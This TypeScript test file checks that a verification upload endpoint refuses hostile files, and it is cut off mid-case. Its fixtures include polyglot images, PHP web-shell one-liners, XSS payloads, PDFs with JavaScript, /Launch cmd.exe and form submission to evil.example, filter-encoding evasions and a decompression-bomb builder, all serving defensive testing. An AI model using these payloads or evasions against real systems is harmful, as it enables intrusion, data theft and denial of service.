import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { VerificationDocumentView } from '../../../contract/verification.ts';
import { verificationDocuments } from '../../db/schema/verification.ts';
import { createTestApp, TEST_ORIGIN, type TestApp } from '../../platform/testing/test-app.ts';
import { registerPlayer, type TestPlayer } from '../../platform/testing/players.ts';
import { lzwDecode } from './decoders.ts';
import { inspectDocument } from './inspect.ts';

/**
 * Hostile uploads to `verification/upload` (docs/verification.md, "What is refused"): polyglots,
 * active PDFs in every spelling, oversized bodies, decompression bombs. Every fixture is made
 * here. Each refusal must be the module's InvalidParameterException naming `file`, with nothing
 * stored: no row, no file on disk. Honest documents (photos, scans, ordinary PDFs) still pass.
 * The app keeps the default 10 MiB limit, so bombs are full size.
 */

const storage = mkdtempSync(join(tmpdir(), 'croupier-kyc-hostile-'));
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ KYC_STORAGE_DIR: storage });
});
afterAll(async () => {
  await t.close();
  rmSync(storage, { recursive: true, force: true });
});

const MiB = 1024 * 1024;
const LIMIT = 10 * MiB;
const TEXT = {
  wrongType: 'Upload a JPEG, PNG or PDF file',
  unsafe: 'This file was refused: it contains scripts, markup or embedded content',
  unreadable: 'This file could not be read: upload a clear photo or scan',
  encrypted: 'This PDF is encrypted or password-protected, so it cannot be checked: upload an unprotected copy or a photo of the document',
  tooManyPixels: 'This image is too large (over 50 megapixels): upload a smaller photo or scan',
  tooLarge: 'The file is larger than 10 MB',
} as const;

const as = (who: TestPlayer) => ({ cookie: who.cookie, 'x-croupier-client-ip': who.ip });
const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** Players, a fresh one every 25 uploads (the upload limit is 30 an hour). */
let current: { who: TestPlayer; uploads: number } | null = null;
async function player(): Promise<TestPlayer> {
  if (!current || current.uploads >= 25) current = { who: await registerPlayer(t, { tag: 'kyc-hostile' }), uploads: 0 };
  current.uploads++;
  return current.who;
}

async function upload(who: TestPlayer, bytes: Buffer | string, name: string, type: string, kind = 'identity_front') {
  const form = new FormData();
  form.set('kind', kind);
  form.set('file', new File([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], name, { type }));
  const encoded = new Request(TEST_ORIGIN, { method: 'POST', body: form });
  const response = await t.app.request(`${TEST_ORIGIN}/api/verification/upload`, {
    method: 'POST',
    body: new Uint8Array(await encoded.arrayBuffer()),
    headers: { ...as(who), 'content-type': encoded.headers.get('content-type')! },
  });
  return { status: response.status, json: (await response.json()) as { data?: unknown; error?: { type: string; message: string; fields?: Record<string, string> } } };
}

const rowsOf = async (who: TestPlayer) => t.database.db.select().from(verificationDocuments).where(eq(verificationDocuments.userId, who.uid));
const filesOnDisk = () => readdirSync(storage).sort();

type Case = { what: string; bytes: Buffer | string; name?: string; type?: string; expect: keyof typeof TEXT };

/** Uploads each case and checks the refusal: the field `file`, the message, nothing stored. Returns the time each took. */
async function expectRefused(cases: Case[]): Promise<Map<string, number>> {
  const took = new Map<string, number>();
  for (const item of cases) {
    const who = await player();
    const before = filesOnDisk();
    const rowsBefore = (await rowsOf(who)).length;
    const pdf = item.expect === 'encrypted' || item.name?.endsWith('.pdf');
    const started = performance.now();
    const answer = await upload(who, item.bytes, item.name ?? (pdf ? 'bill.pdf' : 'photo.jpg'), item.type ?? (pdf ? 'application/pdf' : 'image/jpeg'), pdf ? 'proof_of_address' : 'identity_front');
    took.set(item.what, performance.now() - started);
    expect([413, 422], `${item.what}: ${JSON.stringify(answer.json)}`).toContain(answer.status);
    expect(answer.json.error, item.what).toMatchObject({ type: 'InvalidParameterException', fields: { file: TEXT[item.expect] } });
    expect((await rowsOf(who)).length, `${item.what}: no row`).toBe(rowsBefore);
    expect(filesOnDisk(), `${item.what}: no file`).toEqual(before);
  }
  return took;
}

async function expectAccepted(what: string, bytes: Buffer | string, name: string, type: string, kind = 'identity_front'): Promise<{ doc: VerificationDocumentView; stored: Buffer }> {
  const who = await player();
  const answer = await upload(who, bytes, name, type, kind);
  expect(answer.status, `${what}: ${JSON.stringify(answer.json)}`).toBe(200);
  const doc = answer.json.data as VerificationDocumentView;
  const file = await t.app.request(`${TEST_ORIGIN}${doc.url}`, { headers: as(who) });
  return { doc, stored: Buffer.from(await file.arrayBuffer()) };
}

// --- fixtures ------------------------------------------------------------------------------------

const photo = (width = 320, height = 200, options: { progressive?: boolean } = {}) =>
  sharp({ create: { width, height, channels: 3, background: { r: 40, g: 90, b: 160 } } })
    .jpeg({ progressive: options.progressive ?? false })
    .toBuffer();
/** Noise compresses like a real photo: its entropy-coded bytes look random. */
const noisyPhoto = (width: number, height: number) => {
  const pixels = Buffer.alloc(width * height * 3);
  let seed = 12345;
  for (let index = 0; index < pixels.length; index++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    pixels[index] = (seed >> 16) & 0xff;
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
};
const png = (width = 120, height = 80) => sharp({ create: { width, height, channels: 4, background: { r: 10, g: 200, b: 90, alpha: 1 } } }).png().toBuffer();

function jpegSegment(marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}
/** The JPEG with segments right after its SOI. */
const withSegments = (jpeg: Buffer, ...segments: Buffer[]) => Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
/** Every position of a marker (FF xx) in a JPEG; inside scans FF is always followed by 00 or a restart marker. */
const markerPositions = (jpeg: Buffer, marker: number) => {
  const found: number[] = [];
  for (let at = jpeg.indexOf(Buffer.from([0xff, marker])); at !== -1; at = jpeg.indexOf(Buffer.from([0xff, marker]), at + 2)) found.push(at);
  return found;
};

function pngChunk(type: string, data: Buffer | string): Buffer {
  const body = Buffer.concat([latin1(type), typeof data === 'string' ? latin1(data) : data]);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(body.length - 4, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), body.length + 4);
  return out;
}
/** The PNG with chunks before its IEND (sharp writes IEND last). */
const withChunks = (image: Buffer, ...chunks: Buffer[]) => Buffer.concat([image.subarray(0, image.length - 12), ...chunks, image.subarray(image.length - 12)]);
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
function ihdr(width: number, height: number, bitDepth = 8, colorType = 0): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = bitDepth;
  data[9] = colorType;
  return pngChunk('IHDR', data);
}

/** A stored (uncompressed) ZIP archive; `commentLength` may claim bytes that follow it in the file. */
function zip(entries: Array<[string, Buffer | string]>, options: { comment?: Buffer; commentLength?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const data = typeof content === 'string' ? latin1(content) : content;
    const fileName = latin1(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(fileName.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(fileName.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    centrals.push(central, fileName);
    offset += 30 + fileName.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(options.commentLength ?? options.comment?.length ?? 0, 20);
  return Buffer.concat([...locals, directory, end, options.comment ?? Buffer.alloc(0)]);
}
const JAR = () => zip([['META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\nMain-Class: Exploit\n'], ['Exploit.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34])]]);

type PdfObject = string | { dictionary: string; data: Buffer | string; eol?: string; length?: number };
/** A PDF with its objects numbered from 1 (the catalog first), an xref table and a trailer. */
function pdf(objects: PdfObject[], options: { trailer?: string; before?: Buffer; after?: Buffer } = {}): Buffer {
  const parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let size = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(size);
    let body: Buffer;
    if (typeof object === 'string') body = latin1(`${index + 1} 0 obj\n${object}\nendobj\n`);
    else {
      const data = typeof object.data === 'string' ? latin1(object.data) : object.data;
      body = Buffer.concat([
        latin1(`${index + 1} 0 obj\n<< ${object.dictionary} /Length ${object.length ?? data.length} >>\nstream${object.eol ?? '\n'}`),
        data,
        latin1('\nendstream\nendobj\n'),
      ]);
    }
    parts.push(body);
    size += body.length;
  });
  const xref = ['xref', `0 ${objects.length + 1}`, '0000000000 65535 f ', ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `)].join('\n');
  parts.push(latin1(`${xref}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''} >>\nstartxref\n${size}\n%%EOF\n`));
  return Buffer.concat([options.before ?? Buffer.alloc(0), ...parts, options.after ?? Buffer.alloc(0)]);
}
const flate = (text: string | Buffer) => deflateSync(typeof text === 'string' ? latin1(text) : text);
const CONTENT = 'BT /F1 12 Tf 72 770 Td (Electricity bill - Ann Lee, 12 rue de la Paix, 75002 Paris) Tj ET';
/** An ordinary one-page bill; `catalog` and `page` add entries, `more` objects from number 6. */
const bill = (options: { catalog?: string; page?: string; more?: PdfObject[]; trailer?: string } = {}) =>
  pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${options.page ?? ''} >>`,
      { dictionary: '/Filter /FlateDecode', data: flate(CONTENT) },
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ...(options.more ?? []),
    ],
    { trailer: options.trailer },
  );
/** An object stream holding `objects` (numbered from `first`), its header of numbers and offsets. */
function objectStreamText(objects: string[], first: number): { text: string; header: number } {
  let offset = 0;
  const pairs: string[] = [];
  for (const [index, object] of objects.entries()) {
    pairs.push(`${first + index} ${offset}`);
    offset += object.length + 1;
  }
  const header = `${pairs.join(' ')}\n`;
  return { text: header + objects.join('\n') + '\n', header: header.length };
}
/** The bill with its catalog's extra entries given by object 7, which lives in a compressed object stream (object 6). */
function billWithObjectStream(hidden: string, encode: (text: string) => { filter: string; data: Buffer; eol?: string; length?: number }, dictionary = '/Type /ObjStm') {
  const stream = objectStreamText([hidden], 7);
  const encoded = encode(stream.text);
  return bill({
    catalog: '/Names 7 0 R',
    more: [{ dictionary: `${dictionary} /N 1 /First ${stream.header} ${encoded.filter}`, data: encoded.data, eol: encoded.eol, length: encoded.length }],
  });
}
const JS_ACTION = '<< /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >>';

/** PDF LZW (9 to 12 bit codes, early change), enough for a short text. */
function lzwEncode(data: Buffer): Buffer {
  const out: number[] = [];
  let buffer = 0;
  let bits = 0;
  let width = 9;
  const write = (code: number) => {
    buffer = (buffer << width) | code;
    bits += width;
    while (bits >= 8) {
      out.push((buffer >>> (bits - 8)) & 0xff);
      bits -= 8;
    }
    buffer &= (1 << bits) - 1;
  };
  const table = new Map<string, number>();
  let next = 258;
  write(256);
  let word = '';
  for (const byte of data) {
    const joined = word + String.fromCharCode(byte);
    if (word === '' || table.has(joined)) {
      word = joined;
      continue;
    }
    write(word.length === 1 ? word.charCodeAt(0) : table.get(word)!);
    table.set(joined, next++);
    if (next >= 1 << width && width < 12) width++;
    word = String.fromCharCode(byte);
  }
  if (word) write(word.length === 1 ? word.charCodeAt(0) : table.get(word)!);
  write(257);
  if (bits) out.push((buffer << (8 - bits)) & 0xff);
  return Buffer.from(out);
}
const asciiHex = (data: Buffer) => latin1(`${data.toString('hex').replace(/(.{64})/g, '$1\n')}>`);
function ascii85(data: Buffer): Buffer {
  let out = '';
  for (let index = 0; index < data.length; index += 4) {
    const group = Buffer.alloc(4);
    data.copy(group, 0, index, index + 4);
    let value = group.readUInt32BE(0);
    const count = Math.min(4, data.length - index);
    const digits: string[] = [];
    for (let digit = 0; digit < 5; digit++) {
      digits.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, count + 1).join('');
  }
  return latin1(`${out}~>`);
}
/** PNG predictor "None" on rows of `columns` bytes: a zero before every row, splitting words apart. */
const predictedRows = (data: Buffer, columns: number) => {
  const rows: Buffer[] = [];
  for (let index = 0; index < data.length; index += columns) rows.push(Buffer.from([0]), data.subarray(index, index + columns));
  return Buffer.concat(rows);
};

/**
 * A zlib stream that inflates to `bytes` zeros (a multiple of 1 MiB) from about a thousandth of
 * that: one compressed MiB of zeros, flushed to a byte boundary, repeated, then a final empty
 * block. The bomb is never inflated here.
 */
function deflateBomb(bytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(MiB), { finishFlush: constants.Z_FULL_FLUSH });
  const blocks = new Array<Buffer>(bytes / MiB).fill(block);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, Buffer.from([0x03, 0x00, 0, 0, 0, 0])]);
}

// --- the cases -----------------------------------------------------------------------------------

describe('polyglots and disguised files', () => {
  it('refuses images that are also archives, pages, scripts or PDFs', async () => {
    const jpeg = await photo();
    const image = await png();
    const archive = zip([['payload.html', '<script>alert(document.cookie)</script>']]);
    const progressive = await photo(320, 200, { progressive: true });
    const secondScan = markerPositions(progressive, 0xda)[1];
    const firstScan = markerPositions(jpeg, 0xda)[0];
    const scanData = firstScan + 2 + jpeg.readUInt16BE(firstScan + 2);
    const tail = jpeg.subarray(2);
    const afterApp0 = 4 + jpeg.readUInt16BE(4);
    // A ZIP inside the comment whose own comment runs over the rest of the JPEG: no byte after the image, still an archive.
    const zipInComment = zip([['x.txt', 'hello']], { commentLength: tail.length });
    const pdfText = '%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';

    const took = await expectRefused([
      { what: 'a JPEG with a ZIP appended', bytes: Buffer.concat([jpeg, archive]), expect: 'unsafe' },
      { what: 'a JPEG with a ZIP appended whose comment ends in FF D9', bytes: Buffer.concat([jpeg, zip([['a.txt', 'x']], { comment: Buffer.from([0xff, 0xd9]) })]), expect: 'unsafe' },
      { what: 'a JPEG carrying a ZIP in its comment segment', bytes: Buffer.concat([jpeg.subarray(0, 2), jpegSegment(0xfe, zipInComment), tail]), expect: 'unsafe' },
      { what: 'a PNG with a ZIP after its end and a fake IEND', bytes: Buffer.concat([image, archive, pngChunk('IEND', '')]), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a PNG with a ZIP in a private chunk', bytes: withChunks(image, pngChunk('zipP', archive)), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a GIFAR (a GIF with a JAR appended)', bytes: Buffer.concat([latin1('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), JAR()]), name: 'id.gif', type: 'image/gif', expect: 'wrongType' },
      { what: 'a JPEG with a JAR appended', bytes: Buffer.concat([jpeg, JAR()]), expect: 'unsafe' },
      { what: 'a PNG with HTML in a tEXt chunk', bytes: withChunks(image, pngChunk('tEXt', 'Comment\0<html><body onload=alert(1)>')), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a PNG with a script in a compressed zTXt chunk', bytes: withChunks(image, pngChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), flate('<svg onload=alert(1)>')]))), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a PNG with a script in a compressed iTXt chunk', bytes: withChunks(image, pngChunk('iTXt', Buffer.concat([latin1('XML:com.adobe.xmp\0\x01\0\0\0'), flate('<x:xmpmeta><img src=x onerror=alert(1)></x:xmpmeta>')]))), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a PNG with a page in a plain iTXt chunk', bytes: withChunks(image, pngChunk('iTXt', 'Description\0\0\0en\0\0<!doctype html><title>x</title>')), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a PNG with a PHP short tag in a zTXt chunk', bytes: withChunks(image, pngChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), flate('<?= `$_GET[0]`; __halt_compiler();')]))), name: 'id.png', type: 'image/png', expect: 'unsafe' },
      { what: 'a JPEG with PHP in a comment', bytes: withSegments(jpeg, jpegSegment(0xfe, latin1('<?php system($_GET["c"]); ?>'))), expect: 'unsafe' },
      { what: 'a JPEG with a PHP short echo tag in a comment', bytes: withSegments(jpeg, jpegSegment(0xfe, latin1('<?=`$_GET[0]`;__halt_compiler();'))), expect: 'unsafe' },
      { what: 'a JPEG with a PHP short tag in its XMP', bytes: withSegments(jpeg, jpegSegment(0xe1, latin1('http://ns.adobe.com/xap/1.0/\0<? passthru($_GET[1]); ?>'))), expect: 'unsafe' },
      { what: 'a progressive JPEG with markup in a comment between its scans', bytes: Buffer.concat([progressive.subarray(0, secondScan), jpegSegment(0xfe, latin1('<svg/onload=alert(1)>')), progressive.subarray(secondScan)]), expect: 'unsafe' },
      { what: 'a JPEG with a script inside its scan data', bytes: Buffer.concat([jpeg.subarray(0, scanData), latin1('<script>alert(1)</script>'), jpeg.subarray(scanData)]), expect: 'unsafe' },
      { what: 'a JPEG with markup in bytes between segments (decoders skip them)', bytes: Buffer.concat([jpeg.subarray(0, afterApp0), latin1('<svg/onload=alert(1)>'), jpeg.subarray(afterApp0)]), expect: 'unsafe' },
      { what: 'a JPEG carrying a PDF in a comment', bytes: withSegments(jpeg, jpegSegment(0xfe, latin1(pdfText))), expect: 'unsafe' },
      { what: 'a JPEG carrying PDF objects and xref pointer without a header', bytes: withSegments(jpeg, jpegSegment(0xfe, latin1(pdfText.replace('%PDF-1.4\n', '')))), expect: 'unsafe' },
      { what: 'JPEG magic followed by a PDF', bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), latin1(pdfText)]), expect: 'unsafe' },
      { what: 'a GIF that is also a PDF', bytes: Buffer.concat([latin1('GIF89a\x01\x00\x01\x00\x00\x00\x00;\n'), bill()]), name: 'bill.pdf', type: 'application/pdf', expect: 'unsafe' },
      { what: 'an HTML page that is also a PDF', bytes: Buffer.concat([latin1('<html><body>hello</body></html>\n'), bill()]), name: 'bill.pdf', type: 'application/pdf', expect: 'unsafe' },
      { what: 'a PDF with a ZIP appended whose comment ends the file with %%EOF', bytes: Buffer.concat([bill(), zip([['a.txt', 'x']], { comment: latin1('\n%%EOF\n') })]), name: 'bill.pdf', type: 'application/pdf', expect: 'unsafe' },
      { what: 'an SVG renamed .png', bytes: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', name: 'id.png', type: 'image/png', expect: 'wrongType' },
      { what: 'an HTML page renamed .png', bytes: '<!doctype html><html><body><script>alert(1)</script></body></html>', name: 'id.png', type: 'image/png', expect: 'wrongType' },
      { what: 'an SVG behind a PNG signature', bytes: Buffer.concat([PNG_SIGNATURE, latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')]), name: 'id.png', type: 'image/png', expect: 'unreadable' },
    ]);
    for (const [what, ms] of took) expect(ms, what).toBeLessThan(3000);
  });
});

describe('PDFs with active content', () => {
  it('refuses scripts, actions, embedded files and forms in every spelling', async () => {
    const named = (name: string) => bill({ catalog: `/Names << /X << /S /${name} >> >>` });
    await expectRefused([
      { what: '/JavaScript in the name tree', bytes: bill({ catalog: `/Names ${JS_ACTION}` }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/JS from a stream', bytes: bill({ catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>', more: [{ dictionary: '', data: 'app.launchURL("https://evil.example")' }] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/OpenAction opening a link', bytes: bill({ catalog: '/OpenAction << /S /URI /URI (https://tracker.example/opened) >>' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/OpenAction by reference to a print action', bytes: bill({ catalog: '/OpenAction 6 0 R', more: ['<< /S /Named /N /Print >>'] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/OpenAction going to a page, then running a next action', bytes: bill({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/AA on a page', bytes: bill({ page: '/AA << /O << /S /Named /N /Print >> >>' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/Launch', bytes: bill({ page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/EmbeddedFile', bytes: bill({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', more: [{ dictionary: '/Type /EmbeddedFile', data: 'MZ' }] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'a file attachment with an untyped embedded stream (/EF only)', bytes: bill({ page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> >>]', more: [{ dictionary: '', data: 'MZ' }] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/RichMedia', bytes: bill({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/XFA', bytes: bill({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', more: [{ dictionary: '', data: '<xdp:xdp/>' }] }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/SubmitForm', bytes: bill({ page: '/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/collect) >> >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/ImportData', bytes: named('ImportData'), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/GoToR', bytes: named('GoToR'), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/GoToE', bytes: named('GoToE'), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/Rendition', bytes: named('Rendition'), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/Sound', bytes: named('Sound'), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/Movie', bytes: named('Movie'), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/URI to javascript:', bytes: bill({ page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:app.alert(1)) >> >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/URI to javascript: as a hex string', bytes: bill({ page: `/Annots [<< /Subtype /Link /A << /S /URI /URI <${Buffer.from('javascript:alert(1)').toString('hex')}> >> >>]` }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/URI to javascript: with octal escapes', bytes: bill({ page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (\\152\\141v\\141script:alert\\(1\\)) >> >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/URI to javascript: split by a tab and a line continuation', bytes: bill({ page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (java\\tscr\\\nipt:alert\\(1\\)) >> >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/URI to javascript: in UTF-16', bytes: bill({ page: `/Annots [<< /Subtype /Link /A << /S /URI /URI <feff${Buffer.from('javascript:alert(1)', 'utf16le').swap16().toString('hex')}> >> >>]` }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/URI to a file: address', bytes: bill({ page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (file://evil.example/share/x.exe) >> >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: '/URI to an ms-msdt: handler', bytes: bill({ page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (ms-msdt:/id PCWDiagnostic) >> >>]' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'a name hidden with #xx escapes (/J#61vaScript)', bytes: bill({ catalog: '/Names << /J#61vaScript << /Names [(x) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >> >>' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'an open action hidden with #xx escapes', bytes: bill({ catalog: '/Open#41ction << /S /Named /N /Print >>' }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'markup in the document information', bytes: bill({ trailer: '/Info << /Title (<script>alert(1)</script>) >>' }), expect: 'unsafe', name: 'bill.pdf' },
    ]);
  });

  it('finds script inside compressed object streams, whatever the filters and however the stream is cut', async () => {
    const text = (hidden: string) => objectStreamText([hidden], 7).text;
    const endstreamInside = Buffer.concat([latin1('endstream\n'), latin1(text(JS_ACTION))]);
    await expectRefused([
      { what: 'FlateDecode', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /FlateDecode', data: flate(plain) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'FlateDecode with a wrong checksum (viewers do not check it)', bytes: billWithObjectStream(JS_ACTION, (plain) => { const data = flate(plain); data[data.length - 1] ^= 0xff; return { filter: '/Filter /FlateDecode', data }; }), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'FlateDecode cut short', bytes: billWithObjectStream(JS_ACTION + ' '.repeat(2000), (plain) => ({ filter: '/Filter /FlateDecode', data: deflateSync(latin1(plain), { level: 0 }).subarray(0, 200) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'raw deflate without a zlib header', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /FlateDecode', data: deflateRawSync(latin1(plain)) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'ASCIIHexDecode then FlateDecode', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter [/ASCIIHexDecode /FlateDecode]', data: asciiHex(flate(plain)) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'ASCII85Decode', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /ASCII85Decode', data: ascii85(latin1(plain)) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'LZWDecode', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /LZWDecode', data: lzwEncode(latin1(plain)) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'RunLengthDecode', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /RunLengthDecode', data: Buffer.concat([Buffer.from([plain.length - 1]), latin1(plain), Buffer.from([128])]) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'FlateDecode with a PNG predictor splitting the names', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', data: flate(predictedRows(latin1(plain), 4)) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'abbreviated filter names (/Fl, /AHx)', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter [/AHx /Fl]', data: asciiHex(flate(plain)) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'a filter name hidden with #xx escapes', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /Fl#61teDecode', data: flate(plain) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'a decoy filter in a nested dictionary', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/X << /Filter /ASCIIHexDecode >> /Filter /FlateDecode', data: flate(plain) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: '`stream` followed by a carriage return only', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /FlateDecode', data: flate(plain), eol: '\r' })), expect: 'unsafe', name: 'bill.pdf' },
      { what: '`endstream` inside the compressed data (the /Length is right)', bytes: billWithObjectStream(JS_ACTION, () => ({ filter: '/Filter /FlateDecode', data: deflateSync(endstreamInside, { level: 0 }) })), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'an object stream without /Type (viewers go by /N and /First)', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /FlateDecode', data: flate(plain) }), ''), expect: 'unsafe', name: 'bill.pdf' },
      { what: 'an object stream with an unknown filter', bytes: billWithObjectStream(JS_ACTION, (plain) => ({ filter: '/Filter /SecretDecode', data: flate(plain) })), expect: 'unreadable', name: 'bill.pdf' },
    ]);
  });

  it('refuses objects hidden where the search would not look, and encrypted PDFs', async () => {
    const hidden = '7 0 obj\n<< /Type /Action /S /Named /N /Print >>\nendobj\n';
    await expectRefused([
